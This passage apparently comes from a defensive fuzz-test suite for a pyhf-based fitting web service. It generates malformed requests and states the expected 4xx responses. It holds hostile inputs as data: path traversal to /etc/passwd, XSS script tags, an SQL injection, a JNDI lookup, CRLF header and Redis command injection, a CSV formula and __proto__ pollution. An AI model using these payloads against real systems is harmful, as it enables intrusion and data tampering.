            message="unknown JSON-patch operation",
        )
    for name, op in {
        "add-without-value": {"op": "add", "path": "/channels/0/samples/1"},
        "test-without-value": {"op": "test", "path": "/version"},
        "copy-without-from": {"op": "copy", "path": "/channels/0/samples/1"},
        "move-without-from": {"op": "move", "path": "/channels/0/samples/1"},
        "without-path": {"op": "add", "value": sig},
    }.items():
        yield _json_case(
            f"op-{name}", "unknown patch operations", _with_op(op), status=422, where=where, message="needs"
        )
    for name, op in {
        "path-without-slash": {"op": "add", "path": "channels/0/samples/1", "value": sig},
        "path-is-number": {"op": "add", "path": 1, "value": sig},
        "path-is-null": {"op": "add", "path": None, "value": sig},
        "from-without-slash": {"op": "copy", "from": "channels/0", "path": "/channels/1"},
    }.items():
        yield _json_case(f"op-{name}", "unknown patch operations", _with_op(op), status=422, where=where)
    yield _json_case("op-not-an-object", "unknown patch operations", _with_op("add"), status=422, where=where)  # type: ignore[arg-type]
    body = tiny_body()
    body["patchset"]["patches"][0]["patch"] = {"op": "add"}
    yield _json_case(
        "patch-ops-not-a-list",
        "unknown patch operations",
        body,
        status=422,
        where="patchset: patch 'sig_0' /patches/0/patch",
    )


def semantics() -> Iterator[Case]:
    """Valid JSON and schema, but not a usable model or job."""
    body = tiny_body()
    body["patchset"]["patches"][1]["metadata"]["name"] = "sig_0"
    yield _json_case(
        "duplicate-patch-names-adjacent",
        "duplicate names",
        body,
        status=422,
        where="patchset /patches/1/metadata/name",
        message="duplicate patch name",
    )
    body = {"workspace": tiny_workspace(), "patchset": tiny_patchset(tuple(f"p{i}" for i in range(30)) + ("p3",))}
    yield _json_case(
        "duplicate-patch-names-far-apart",
        "duplicate names",
        body,
        status=422,
        where="patchset /patches/30/metadata/name",
        message="'p3'",
    )
    ws = tiny_workspace()
    ws["channels"].append(copy.deepcopy(ws["channels"][0]))
    yield _json_case(
        "duplicate-channel-names",
        "duplicate names",
        {"workspace": ws, "patchset": tiny_patchset()},
        status=422,
        where="workspace /channels/1/name",
        message="duplicate channel",
    )
    ws = tiny_workspace()
    ws["channels"][0]["samples"].append(copy.deepcopy(ws["channels"][0]["samples"][0]))
    yield _json_case(
        "duplicate-sample-names",
        "duplicate names",
        {"workspace": ws, "patchset": tiny_patchset()},
        status=422,
        where="workspace /channels/0/samples/1/name",
        message="duplicate sample",
    )
    ws = tiny_workspace()
    ws["observations"][0]["name"] = "CR"
    yield _json_case(
        "channel-without-observation",
        "model",
        {"workspace": ws, "patchset": tiny_patchset()},
        status=422,
        where="workspace /observations",
        message="no observations for channel 'SR'",
    )
    ws = tiny_workspace()
    ws["observations"][0]["data"].append(1.0)
    yield _json_case(
        "observation-bins-mismatch",
        "model",
        {"workspace": ws, "patchset": tiny_patchset()},
        status=422,
        where="workspace /observations/0/data",
        message="bins",
    )
    body = rich_body()
    body["workspace"]["channels"][0]["samples"][0]["modifiers"][1]["data"]["hi_data"].append(1.0)
    yield _json_case(
        "histosys-bins-mismatch",
        "model",
        body,
        status=422,
        where="workspace /channels/0/samples/0/modifiers/1/data/hi_data",
        message="bins",
    )
    body = rich_body()
    body["workspace"]["channels"][0]["samples"][0]["modifiers"][2]["data"].pop()
    yield _json_case(
        "staterror-bins-mismatch",
        "model",
        body,
        status=422,
        where="workspace /channels/0/samples/0/modifiers/2/data",
        message="bins",
    )
    body = tiny_body()
    body["patchset"]["patches"][1]["metadata"]["values"] = [1.0, 2.0]
    yield _json_case(
        "grid-values-of-different-lengths", "model", body, status=422, where="patchset", message="different lengths"
    )
    body = tiny_body()
    body["patchset"]["patches"] = []
    yield _json_case("no-patches", "model", body, status=422, where="patchset")
    # the POI: must be a parameter of each (patched) model
    yield _json_case(
        "poi-missing-background-only",
        "POI missing",
        {"workspace": tiny_workspace()},
        status=422,
        where="workspace /measurements/0/config/poi",
        message="POI 'mu'",
    )
    body = tiny_body()
    for p in body["patchset"]["patches"]:
        p["patch"][0]["value"]["modifiers"][0]["name"] = "mu_SIG"
    yield _json_case(
        "poi-missing-signal-normfactor-renamed",
        "POI missing",
        body,
        status=422,
        where="patchset: patch 'sig_0' /measurements/0/config/poi",
        message="POI 'mu'",
    )
    body = tiny_body()
    body["patchset"]["patches"][1]["patch"][0]["value"]["modifiers"] = []
    yield _json_case(
        "poi-missing-in-second-patch",
        "POI missing",
        body,
        status=422,
        where="patchset: patch 'sig_1' /measurements/0/config/poi",
        message="POI 'mu'",
    )
    body = rich_body()
    for p in body["patchset"]["patches"]:
        p["patch"][0]["value"]["modifiers"][0] = {"name": "mu_sig", "type": "staterror", "data": [1.0, 1.0]}
    yield _json_case(
        "poi-is-a-per-bin-parameter",
        "POI missing",
        body,
        status=422,
        where="patchset: patch 'rich_0' /measurements/0/config/poi",
        message="one parameter",
    )
    body = tiny_body()
    body["workspace"]["measurements"][0]["config"]["poi"] = ""
    yield _json_case(
        "poi-empty-string", "POI missing", body, status=422, where="patchset: patch 'sig_0' /measurements/0/config/poi"
    )
    for name, meas in {"nonexistent": "nope", "empty": "", "long": "m" * 20000, "case-differs": "MEAS"}.items():
        yield _json_case(
            f"measurement-{name}",
            "measurement missing",
            tiny_body(measurement=meas),
            status=422,
            where="options.measurement",
            message="no measurement named",
        )


def absurd_options() -> Iterator[Case]:
    for name, (opts, where) in {
        "confidence_level-2": ({"confidence_level": 2}, "options.confidence_level"),
        "confidence_level-0": ({"confidence_level": 0}, "options.confidence_level"),
        "confidence_level-1": ({"confidence_level": 1}, "options.confidence_level"),
        "confidence_level-negative": ({"confidence_level": -0.5}, "options.confidence_level"),
        "confidence_level-percent": ({"confidence_level": 95}, "options.confidence_level"),
        "test_stat-foo": ({"test_stat": "foo"}, "options.test_stat"),
        "test_stat-empty": ({"test_stat": ""}, "options.test_stat"),
        "test_stat-upper-case": ({"test_stat": "QTILDE"}, "options.test_stat"),
        "test_stat-list": ({"test_stat": ["q"]}, "options.test_stat"),
        "poi_test-string": ({"poi_test": "one"}, "options.poi_test"),
        "poi_test-list": ({"poi_test": [1.0]}, "options.poi_test"),
        "limits-maybe": ({"limits": "maybe"}, "options.limits"),
        "limits-2": ({"limits": 2}, "options.limits"),
        "cls_only-object": ({"cls_only": {}}, "options.cls_only"),
        "modifier_settings-foo": ({"modifier_settings": "foo"}, "options.modifier_settings"),
        "modifier_settings-bad-code": (
            {"modifier_settings": {"normsys": {"interpcode": "code9"}}},
            "options.modifier_settings",
        ),
        "modifier_settings-flat": ({"modifier_settings": {"normsys": "code4"}}, "options.modifier_settings"),
        "measurement-number": ({"measurement": 5}, "options.measurement"),
        "patches-string": ({"patches": "sig_0"}, "options.patches"),
        "patches-numbers": ({"patches": [0, 1]}, "options.patches"),
        "patches-null-entry": ({"patches": [None]}, "options.patches"),
        "patches-unknown": ({"patches": ["sig_0", "nope"]}, "options.patches"),
        "patches-traversal": ({"patches": ["../../etc/passwd"]}, "options.patches"),
        "unknown-option": ({"evil": 1}, "options"),
        "proto-option": ({"__proto__": {"admin": True}}, "options"),
        "thousand-options": ({f"k{i}": i for i in range(1000)}, "options"),
    }.items():
        yield _json_case(f"option-{name}", "absurd options", tiny_body(**opts), status=422, where=where)
    yield _json_case(
        "options-a-list", "absurd options", {**tiny_body(), "options": ["qtilde"]}, status=422, where="options"
    )
    yield _json_case(
        "options-a-string", "absurd options", {**tiny_body(), "options": "qtilde"}, status=422, where="options"
    )
    yield _json_case(
        "option-q0-with-limits",
        "absurd options",
        tiny_body(test_stat="q0", limits=True),
        status=422,
        where="options",
        message="q0",
    )
    yield _json_case(
        "option-poi_test-negative",
        "absurd options",
        tiny_body(poi_test=-1.0),
        expect="either",
        names=("sig_0", "sig_1"),
    )
    yield _json_case(
        "option-poi_test-zero", "absurd options", tiny_body(poi_test=0.0), expect="either", names=("sig_0", "sig_1")
    )
    yield _json_case(
        "option-patches-empty-list", "absurd options", tiny_body(patches=[]), expect="accept", names=("sig_0", "sig_1")
    )
    yield _json_case(
        "option-patches-repeated",
        "absurd options",
        tiny_body(patches=["sig_1", "sig_1", "sig_1"]),
        expect="accept",
        names=("sig_1",),
    )
    yield _json_case(
        "option-cls_only-string-true",
        "absurd options",
        tiny_body(cls_only="true"),
        expect="accept",
        names=("sig_0", "sig_1"),
    )


#: strings that have broken other services: traversal, injection, control and invisible characters
HOSTILE_NAMES = {
    "traversal-unix": "../../../../etc/passwd",
    "traversal-windows": "..\\..\\..\\windows\\win.ini",
    "absolute-path": "/etc/shadow",
    "percent-encoded-traversal": "%2e%2e%2f%2e%2e%2fetc",
    "nul-byte": "sig\x00nul",
    "control-characters": "tab\there\nnewline\rcr\x1b[31mred\x7f",
    "rtl-override": "sig_\u202egnp.exe",
    "zero-width": "sig\u200b_0\ufeff",
    "emoji": "signal \U0001f680 \U0001f4a5",
    "combining": "e\u0301\u0301\u0301",
    "html": "<script>alert(1)</script>",
    "sql": "'; DROP TABLE jobs; --",
    "template": "{{7*7}} ${jndi:ldap://x/a} %s%n",
    "redis-glob": "fitserve:job:*",
    "crlf-injection": "x\r\nSET pwned 1\r\n",
    "csv-formula": '=HYPERLINK("http://x")',
    "space-only": " ",
    "proto": "__proto__",
    "long-20000": "n" * 20000,
}


def hostile_names() -> Iterator[Case]:
    # pyhf's schema allows only [a-zA-Z0-9_]+ as patch names and axis labels: hostile ones are refused, naming the patch
    for label, name in HOSTILE_NAMES.items():
        body = {"workspace": tiny_workspace(), "patchset": tiny_patchset((name, "plain"))}
        if label in ("long-20000", "proto"):
            yield _json_case(
                f"name-patch-{label}", "hostile strings in names", body, expect="accept", names=(name, "plain")
            )
        else:
            yield _json_case(
                f"name-patch-{label}",
                "hostile strings in names",
                body,
                status=422,
                where="patchset: patch ",
                message="does not match",
            )
    # channel, sample and measurement names are free text: accepted, and they must survive the round trip
    for label in (
        "traversal-unix",
        "nul-byte",
        "control-characters",
        "html",
        "long-20000",
        "emoji",
        "redis-glob",
        "crlf-injection",
    ):
        name = HOSTILE_NAMES[label]
        ws = tiny_workspace()
        ws["channels"][0]["name"] = ws["observations"][0]["name"] = name
        ws["channels"][0]["samples"][0]["name"] = name + "_bkg"
        ws["measurements"][0]["name"] = name + "_meas"
        yield _json_case(
            f"name-channel-sample-measurement-{label}",
            "hostile strings in names",
            {"workspace": ws, "patchset": tiny_patchset(), "options": {"measurement": name + "_meas"}},
            expect="accept",
            names=("sig_0", "sig_1"),
        )
    full = tiny_workspace()
    full["channels"][0]["samples"].append(signal_patch("x")["patch"][0]["value"])
    for label in (
        "traversal-unix",
        "html",
        "crlf-injection",
        "emoji",
    ):  # a full workspace's hypothesis is named after its measurement
        ws = copy.deepcopy(full)
        ws["measurements"][0]["name"] = HOSTILE_NAMES[label]
        yield _json_case(
            f"name-full-workspace-measurement-{label}",
            "hostile strings in names",
            {"workspace": ws},
            expect="accept",
            names=(HOSTILE_NAMES[label],),
        )
    for label in ("html", "long-20000", "control-characters"):
        body = tiny_body()
        body["patchset"]["metadata"]["description"] = HOSTILE_NAMES[label]
        body["patchset"]["metadata"]["name"] = HOSTILE_NAMES[label]
        yield _json_case(
            f"name-description-{label}", "hostile strings in names", body, expect="accept", names=("sig_0", "sig_1")
        )
    # axis labels: [a-zA-Z0-9_]+ too (no mathtext reaches the plot)
    for label, text in {
        "mathtext-unbalanced": "$m_{\\tilde{\\chi}",
        "mathtext-bad-command": "$\\undefinedcommand{x}$",
        "dollars": "$$$",
        "html": "<b>m</b>",
        "empty": "",
    }.items():
        body = {"workspace": tiny_workspace(), "patchset": tiny_patchset(("a", "b", "c"), labels=[text])}
        yield _json_case(
            f"label-{label}", "hostile strings in names", body, status=422, where="patchset /metadata/labels/0"
        )
    body = {"workspace": tiny_workspace(), "patchset": tiny_patchset(("a", "b", "c"), labels=["L" * 5000])}
    yield _json_case("label-long", "hostile strings in names", body, expect="accept", names=("a", "b", "c"))
    body = {"workspace": tiny_workspace(), "patchset": tiny_patchset(("a", "b", "c"), labels=["m_X", "m_Y", "m_Z"])}
    yield _json_case(
        "labels-more-than-grid-values", "hostile strings in names", body, expect="either", names=("a", "b", "c")
    )
    # grid values may be strings in pyhf's schema: contours and plots must cope
    for label, values in {
        "strings": [["a"], ["b"], ["c"]],
        "mixed": [[1.0, "x"], [2.0, "y"], [3.0, "z"]],
        "empty": [[], [], []],
        "identical": [[1.0], [1.0], [1.0]],
    }.items():
        ps = tiny_patchset(("a", "b", "c"), labels=["m_X", "m_Y"][: max(1, len(values[0]))])
        for p, v in zip(ps["patches"], values):
            p["metadata"]["values"] = v
        yield _json_case(
            f"grid-values-{label}",
            "hostile strings in names",
            {"workspace": tiny_workspace(), "patchset": ps},
            expect="accept",
            names=("a", "b", "c"),
        )
    # lone UTF-16 surrogates: valid JSON escapes, not valid Unicode (cannot be encoded as UTF-8)
    yield Case(
        "surrogate-in-patch-name",
        "invalid Unicode",
        body=dumps(tiny_body()).replace(b'"sig_0"', b'"\\ud800"'),
        status=422,
        where="patchset",
        message="surrogate",
    )
    yield Case(
        "surrogate-in-sample-name",
        "invalid Unicode",
        body=dumps(tiny_body()).replace(b'"bkg"', b'"b\\udfffg"'),
        status=422,
        where="workspace /channels/0/samples/0/name",
        message="surrogate",
    )
    yield Case(
        "surrogate-in-label",
        "invalid Unicode",
        body=dumps(tiny_body()).replace(b'"m_X"', b'"\\ud83d"'),
        status=422,
        where="patchset /metadata/labels/0",
        message="surrogate",
    )
    yield Case(
        "surrogate-as-key",
        "invalid Unicode",
        body=dumps(tiny_body()).replace(b'"references": {', b'"references": {"\\udc00": 1, '),
        status=422,
        where="patchset /metadata/references",
        message="surrogate",
    )
    # options are stored as given: a lone surrogate accepted there breaks GET /v1/jobs (500) for every later request
    yield Case(
        "surrogate-in-option-value",
        "invalid Unicode",
        body=dumps(tiny_body(measurement="x")).replace(b'"x"', b'"\\ud800"'),
        status=422,
        where="options",
        isolated=True,
    )
    yield Case(
        "surrogate-in-modifier-settings-value",
        "invalid Unicode",
        body=dumps(tiny_body(modifier_settings={"normsys": {"interpcode": "code4", "note": "x"}})).replace(
            b'"x"', b'"\\udfff"'
        ),
        status=422,
        where="options",
        isolated=True,
    )
    yield Case(
        "surrogate-in-modifier-settings-key",
        "invalid Unicode",
        body=dumps(tiny_body(modifier_settings={"normsys": {"interpcode": "code4"}, "x": {}})).replace(
            b'"x"', b'"\\ud800"'
        ),
        status=422,
        where="options",
        isolated=True,
    )
    yield Case(
        "surrogate-as-option-key",
        "invalid Unicode",
        body=dumps(tiny_body(x=1)).replace(b'"x"', b'"\\ud800"'),
        status=422,
        where="options",
    )


def invalid_utf8() -> Iterator[Case]:
    text = dumps(tiny_body())
    for name, bad in {
        "ff-byte": b"\xff",
        "overlong-slash": b"\xc0\xaf",
        "cesu-surrogate": b"\xed\xa0\x80",
        "truncated-sequence": b"\xe2\x82",
        "latin1-e-acute": b"\xe9",
    }.items():
        # json.loads decodes bytes with 'surrogatepass': CESU-8 surrogates become lone surrogates, refused in the patchset
        where = "patchset" if name == "cesu-surrogate" else "request body"
        yield _json_case(
            f"utf8-{name}-in-name",
            "invalid UTF-8",
            text.replace(b'"sig_0"', b'"sig' + bad + b'"'),
            status=422,
            where=where,
            message=None if name == "cesu-surrogate" else "decode",
        )
    yield _json_case(
        "utf8-latin1-declared",
        "invalid UTF-8",
        text.replace(b'"sig_0"', b'"sig\xe9"'),
        status=422,
        where="request body",
        content_type="application/json; charset=latin-1",
    )
    yield Case(
        "utf8-invalid-multipart-workspace",
        "invalid UTF-8",
        body=multipart(files(dumps(tiny_workspace()).replace(b'"bkg"', b'"\xff"'), tiny_patchset())),
        content_type=MULTIPART,
        status=422,
        where="workspace (upload)",
    )
    yield Case(
        "utf8-invalid-multipart-options",
        "invalid UTF-8",
        body=multipart(files(tiny_workspace(), tiny_patchset(), b'{"test_stat": "\xff"}')),
        content_type=MULTIPART,
        status=422,
        where="options",
    )


def content_types() -> Iterator[Case]:
    text = dumps(tiny_body())
    for ctype in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/xml",
        "text/html",
        "application/octet-stream",
        "image/png",
        "multipart/mixed; boundary=x",
        "application/jsonx",
        "text/json",
    ):
        yield Case(
            f"content-type-{ctype.split(';')[0]}",
            "wrong content type",
            body=text,
            content_type=ctype,
            status=415,
            where="content-type",
        )
    yield Case(
        "content-type-form-urlencoded-fields",
        "wrong content type",
        body=b"workspace=" + text.replace(b"&", b"%26"),
        content_type="application/x-www-form-urlencoded",
        status=415,
        where="content-type",
    )
    yield Case(
        "content-type-xml-body",
        "wrong content type",
        body=b"<?xml version='1.0'?><workspace/>",
        content_type="application/xml",
        status=415,
        where="content-type",
    )
    yield Case(
        "content-type-json-with-xml-body",
        "wrong content type",
        body=b"<?xml version='1.0'?><workspace/>",
        status=422,
        where="request body",
    )
    # JSON under other spellings is JSON; no content type is taken as JSON
    for ctype in ("APPLICATION/JSON", "application/json; charset=utf-8", "application/problem+json"):
        yield Case(
            f"content-type-json-as-{ctype}",
            "content type variants",
            body=text,
            content_type=ctype,
            expect="accept",
            names=("sig_0", "sig_1"),
        )
    yield Case(
        "content-type-missing",
        "content type variants",
        body=text,
        content_type=None,
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield Case(
        "content-type-missing-empty-body", "empty body", body=b"", content_type=None, status=422, where="request body"
    )


def broken_multipart() -> Iterator[Case]:
    good = multipart(files(tiny_workspace(), tiny_patchset(), {"test_stat": "q"}))
    yield Case(
        "multipart-no-boundary-parameter", "broken multipart", body=good, content_type="multipart/form-data", status=400
    )
    yield Case(
        "multipart-wrong-boundary",
        "broken multipart",
        body=good,
        content_type="multipart/form-data; boundary=other",
        status=400,
    )
    yield Case(
        "multipart-truncated",
        "broken multipart",
        body=good[: len(good) // 2],
        content_type=MULTIPART,
        status=400,
        where="request body",
    )
    yield Case(
        "multipart-no-closing-boundary",
        "broken multipart",
        body=good[: -len(f"--{BOUNDARY}--\r\n")],
        content_type=MULTIPART,
        expect="either",
        names=("sig_0", "sig_1"),
    )
    yield Case(
        "multipart-empty-body", "broken multipart", body=b"", content_type=MULTIPART, status=422, where="workspace"
    )
    yield Case(
        "multipart-only-closing",
        "broken multipart",
        body=f"--{BOUNDARY}--\r\n".encode(),
        content_type=MULTIPART,
        status=422,
        where="workspace",
    )
    no_disp = f"--{BOUNDARY}\r\nContent-Type: application/json\r\n\r\n{{}}\r\n--{BOUNDARY}--\r\n".encode()
    yield Case(
        "multipart-part-without-disposition", "broken multipart", body=no_disp, content_type=MULTIPART, status=400
    )
    no_name = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; filename="w.json"\r\n\r\n{{}}\r\n--{BOUNDARY}--\r\n'.encode()
    )
    yield Case("multipart-part-without-name", "broken multipart", body=no_name, content_type=MULTIPART, status=400)
    yield Case(
        "multipart-unknown-field",
        "broken multipart",
        body=multipart(files(tiny_workspace()) + [("evil", None, None, b"1")]),
        content_type=MULTIPART,
        status=422,
        where="request body",
        message="unknown form field",
    )
    yield Case(
        "multipart-four-files",
        "broken multipart",
        body=multipart(files(tiny_workspace(), tiny_patchset()) * 2),
        content_type=MULTIPART,
        status=400,
    )
    yield Case(
        "multipart-thousand-fields",
        "broken multipart",
        body=multipart([("options", None, None, b"{}")] * 1000),
        content_type=MULTIPART,
        status=400,
    )
    yield Case(
        "multipart-empty-workspace-part",
        "broken multipart",
        body=multipart(files(b"", tiny_patchset())),
        content_type=MULTIPART,
        status=422,
        where="workspace",
        message="missing",
    )
    yield Case(
        "multipart-options-not-json",
        "broken multipart",
        body=multipart(files(tiny_workspace(), tiny_patchset(), b"test_stat=q")),
        content_type=MULTIPART,
        status=422,
        where="options (upload)",
    )
    yield Case(
        "multipart-truncated-workspace-json",
        "broken multipart",
        body=multipart(files(dumps(tiny_workspace())[:50], tiny_patchset())),
        content_type=MULTIPART,
        status=422,
        where="workspace (upload)",
    )
    yield Case(
        "multipart-workspace-is-a-list",
        "broken multipart",
        body=multipart(files([tiny_workspace()], tiny_patchset())),
        content_type=MULTIPART,
        status=422,
        where="workspace",
    )
    yield Case(
        "multipart-patchset-is-a-string",
        "broken multipart",
        body=multipart(files(tiny_workspace(), b'"patchset"')),
        content_type=MULTIPART,
        status=422,
        where="patchset",
    )
    # odd but well-formed: accepted
    yield Case(
        "multipart-traversal-filename",
        "multipart variants",
        body=multipart(
            [
                ("workspace", "../../../etc/passwd", "application/json", dumps(tiny_workspace())),
                ("patchset", "..\\..\\boot.ini", "application/json", dumps(tiny_patchset())),
            ]
        ),
        content_type=MULTIPART,
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield Case(
        "multipart-xml-part-type",
        "multipart variants",
        body=multipart(
            [
                ("workspace", "w.xml", "application/xml", dumps(tiny_workspace())),
                ("patchset", "p.json", "text/plain", dumps(tiny_patchset())),
            ]
        ),
        content_type=MULTIPART,
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield Case(
        "multipart-documents-as-text-fields",
        "multipart variants",
        body=multipart(
            [("workspace", None, None, dumps(tiny_workspace())), ("patchset", None, None, dumps(tiny_patchset()))]
        ),
        content_type=MULTIPART,
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield Case(
        "multipart-options-as-file",
        "multipart variants",
        body=multipart(
            files(tiny_workspace(), tiny_patchset())
            + [("options", "o.json", "application/json", b'{"patches": ["sig_1"]}')]
        ),
        content_type=MULTIPART,
        expect="accept",
        names=("sig_1",),
    )
    yield Case(
        "multipart-preamble",
        "multipart variants",
        body=b"junk before the first boundary\r\n" + good,
        content_type=MULTIPART,
        expect="either",
        names=("sig_0", "sig_1"),
    )


def oversized() -> Iterator[Case]:
    pad = b" " * (MAX_BODY + 10)
    text = dumps(tiny_body())
    yield Case(
        "oversized-json",
        "oversized body",
        body=text[:-1] + pad + b"}",
        status=413,
        where="request body",
        message="max_body_bytes",
    )
    yield Case(
        "oversized-json-chunked",
        "oversized body",
        body=text[:-1] + pad + b"}",
        chunked=True,
        status=413,
        where="request body",
        message="max_body_bytes",
    )
    yield Case(
        "oversized-garbage-chunked",
        "oversized body",
        body=b"x" * (2 * MAX_BODY),
        chunked=True,
        status=413,
        where="request body",
    )
    yield Case(
        "oversized-multipart",
        "oversized body",
        body=multipart(files(dumps(tiny_workspace()) + pad, tiny_patchset())),
        content_type=MULTIPART,
        status=413,
        where="request body",
    )
    yield Case(
        "oversized-multipart-chunked-one-part",
        "oversized body",
        body=multipart(files(dumps(tiny_workspace()) + pad, tiny_patchset())),
        content_type=MULTIPART,
        chunked=True,
        status=413,
        where="request body",
    )
    half = b" " * (MAX_BODY // 2 + 10)
    yield Case(
        "oversized-multipart-chunked-two-parts",
        "oversized body",
        body=multipart(files(dumps(tiny_workspace()) + half, dumps(tiny_patchset()) + half)),
        content_type=MULTIPART,
        chunked=True,
        status=413,
        where="request body",
    )
    yield Case(
        "oversized-web-form",
        "oversized body",
        path="/full",
        body=web_form(dumps(tiny_workspace()) + pad, tiny_patchset()),
        content_type=MULTIPART,
        expect="reject",
    )


def hostile_gets() -> Iterator[Case]:
    ids = {
        "unknown": "nope",
        "traversal": "..%2F..%2F..%2Fetc%2Fpasswd",
        "dots": "%2e%2e",
        "glob": "*",
        "redis-key": "fitserve:job:*",
        "nul": "%00",
        "crlf": "x%0d%0aSet-Cookie:%20a=1",
        "invalid-utf8": "%ff%fe",
        "long": "a" * 5000,
        "unicode": "%C3%BC%F0%9F%9A%80",
        "sql": "'%20OR%20'1'='1",
        "jndi": "$%7Bjndi:ldap:%2F%2Fx%7D",
        "html": "%3Cscript%3E",
        "negative": "-1",
        "null": "null",
        "space": "%20",
        "backslash": "..%5C..%5Cwin.ini",
    }
    # an encoded slash makes several path segments: no route matches, and Starlette answers {"detail": "Not Found"}
    for label, jid in ids.items():
        yield Case(
            f"get-status-{label}",
            "hostile job ids",
            method="GET",
            path=f"/v1/jobs/{jid}",
            body=None,
            content_type=None,
            status=404,
            where="path" if "%2F" in jid else "job id",
        )
    for label in ("traversal", "glob", "nul", "invalid-utf8", "long"):
        jid = ids[label]
        for suffix in ("/results", "/results?format=csv", "/contours", "/plot.png", "/plot.svg"):
            yield Case(
                f"get{suffix.replace('?', '-')}-{label}",
                "hostile job ids",
                method="GET",
                path=f"/v1/jobs/{jid}{suffix}",
                body=None,
                content_type=None,
                status=404,
                where="path" if "%2F" in jid else "job id",
            )
        yield Case(
            f"delete-{label}",
            "hostile job ids",
            method="DELETE",
            path=f"/v1/jobs/{jid}",
            body=None,
            content_type=None,
            status=404,
            where="path" if "%2F" in jid else "job id",
        )
    for label, query in {"zero": "0", "negative": "-1", "text": "abc", "float": "1.5", "empty": ""}.items():
        yield Case(
            f"list-limit-{label}",
            "hostile query parameters",
            method="GET",
            path=f"/v1/jobs?limit={query}",
            body=None,
            content_type=None,
            status=422,
        )
    yield Case(
        "list-user-too-long",
        "hostile query parameters",
        method="GET",
        path="/v1/jobs?user=" + "u" * 65,
        body=None,
        content_type=None,
        status=422,
    )
    for label, query in {"xml": "xml", "upper-CSV": "CSV", "empty": "", "list": "json&format=csv&format=xml"}.items():
        yield Case(
            f"results-format-{label}",
            "hostile query parameters",
            method="GET",
            path=f"/v1/jobs/{{job}}/results?format={query}",
            body=None,
            content_type=None,
            status=422,
        )
    for label, path in {
        "limit-large": "/v1/jobs?limit=1000000",
        "limit-huge": "/v1/jobs?limit=" + "9" * 40,
        "unknown-param": "/v1/jobs?evil=1&limit=5",
        "user-glob": "/v1/jobs?user=*",
        "results-extra-param": "/v1/jobs/{job}/results?x=%00",
    }.items():
        yield Case(
            f"query-{label}",
            "hostile query parameters",
            method="GET",
            path=path,
            body=None,
            content_type=None,
            expect="ok",
        )
    # the web pages
    for label in ("traversal", "html", "invalid-utf8", "long", "nul"):
        yield Case(
            f"web-job-page-{label}",
            "hostile job ids",
            method="GET",
            path=f"/jobs/{ids[label]}",
            body=None,
            content_type=None,
            status=404,
        )
    quick = {
        "huge": "observed=1e308&background=1e308&uncertainty=1e308&signal=1e308",
        "tiny": "observed=0&background=1e-300&uncertainty=1e-300&signal=1e-300",
        "nan": "observed=nan&background=1&uncertainty=0.1&signal=1",
        "inf": "observed=1&background=inf&uncertainty=0.1&signal=1",
        "text": "observed=abc&background=1&uncertainty=0.1&signal=1",
        "negative": "observed=-1&background=1&uncertainty=0.1&signal=1",
        "many-bins": "observed=" + ",".join(["1"] * 5000) + "&background=1&uncertainty=0.1&signal=1",
        "bad-mode": "observed=1&background=1&uncertainty=0.1&signal=1&mode=evil",
        "separators-only": "observed=,,,&background=1&uncertainty=0.1&signal=1",
    }
    for label, query in quick.items():
        yield Case(
            f"web-quick-{label}",
            "hostile query parameters",
            method="GET",
            path=f"/?{query}",
            body=None,
            content_type=None,
            expect="either",
        )
        yield Case(
            f"web-quick-workspace-{label}",
            "hostile query parameters",
            method="GET",
            path=f"/quick/workspace.json?{query}",
            body=None,
            content_type=None,
            expect="either",
        )


def web_form_cases() -> Iterator[Case]:
    ws, ps = tiny_workspace(), tiny_patchset()
    cases: dict[str, tuple[bytes, str | None]] = {
        "no-workspace": (web_form(None, ps, test_stat="qtilde"), MULTIPART),
        "truncated-json": (web_form(dumps(ws)[:40], ps), MULTIPART),
        "workspace-a-list": (web_form([ws], ps), MULTIPART),
        "patchset-a-string": (web_form(ws, b'"x"'), MULTIPART),
        "nan-yield": (web_form(dumps(ws).replace(b"52.0", b"NaN"), ps), MULTIPART),
        "invalid-utf8": (web_form(dumps(ws).replace(b'"bkg"', b'"\xff"'), ps), MULTIPART),
        "test_stat-foo": (web_form(ws, ps, test_stat="foo"), MULTIPART),
        "poi_test-text": (web_form(ws, ps, poi_test="abc"), MULTIPART),
        "poi_test-nan": (web_form(ws, ps, poi_test="nan"), MULTIPART),
        "confidence_level-2": (web_form(ws, ps, confidence_level="2"), MULTIPART),
        "modifier_settings-foo": (web_form(ws, ps, modifier_settings="foo"), MULTIPART),
        "patches-unknown": (web_form(ws, ps, patches="sig_0, ../../etc/passwd"), MULTIPART),
        "q0-with-limits": (web_form(ws, ps, test_stat="q0", limits="on"), MULTIPART),
        "token-traversal": (web_form(None, ps, workspace_token="../../../etc/passwd"), MULTIPART),
        "token-unknown": (web_form(None, ps, workspace_token="A" * 22), MULTIPART),
        # a negative signal yield is legitimate; one that makes the expected rate negative is not
        "negative-patch-yield": (web_form(ws, dumps(ps).replace(b"[5.0]", b"[-500.0]")), MULTIPART),
        "duplicate-patch-names": (web_form(ws, dumps(ps).replace(b'"sig_1"', b'"sig_0"')), MULTIPART),
        "text-plain": (dumps(tiny_body()), "text/plain"),
        "json-body": (dumps(tiny_body()), "application/json"),
        "urlencoded": (b"workspace=%7B%7D&test_stat=q", "application/x-www-form-urlencoded"),
        "no-content-type": (dumps(tiny_body()), None),
    }
    for name, (body, ctype) in cases.items():
        yield Case(f"web-{name}", "web form", path="/full", body=body, content_type=ctype, status=422)
    # broken multipart: the web form answers Starlette's 400 (HTML pages need no problem JSON)
    yield Case(
        "web-three-files",
        "web form",
        path="/full",
        body=multipart(files(ws, ps) + [("extra", "x.json", None, b"{}")]),
        content_type=MULTIPART,
        status=400,
    )
    yield Case(
        "web-no-boundary",
        "web form",
        path="/full",
        body=web_form(ws, ps),
        content_type="multipart/form-data",
        status=400,
    )
    yield Case(
        "web-hostile-patch-names",
        "web form",
        path="/full",
        body=web_form(ws, tiny_patchset(("<script>alert(1)</script>", "../../etc/passwd"))),
        content_type=MULTIPART,
        status=422,
    )
    hostile_ws = tiny_workspace()
    hostile_ws["measurements"][0]["name"] = "<script>alert(1)</script>"
    hostile_ws["channels"][0]["samples"].append(signal_patch("x")["patch"][0]["value"])
    yield Case(
        "web-hostile-measurement-name",
        "web form",
        path="/full",
        body=web_form(hostile_ws, None),
        content_type=MULTIPART,
        expect="accept",
        names=("<script>alert(1)</script>",),
    )
